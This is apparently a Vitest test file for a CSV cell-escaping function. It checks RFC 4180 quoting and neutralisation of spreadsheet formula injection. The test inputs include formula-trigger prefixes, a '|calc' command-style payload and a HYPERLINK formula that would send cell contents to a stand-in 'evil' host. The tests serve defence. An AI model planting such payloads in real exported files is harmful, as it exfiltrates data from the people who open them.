import { describe, expect, it } from 'vitest';
import { csvCell } from './csv.ts';

describe('csvCell', () => {
  it('quotes as RFC 4180 says', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(-12.5)).toBe('-12.5'); // numbers are numbers
  });

  it('defuses every text a spreadsheet would run as a formula', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '|calc', '\t=1', ' =1', '＝1', '＋1', '－1', '＠x']) {
      expect(csvCell(text).replace(/^"/, '').startsWith("'"), JSON.stringify(text)).toBe(true);
    }
    expect(csvCell('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
  });
});
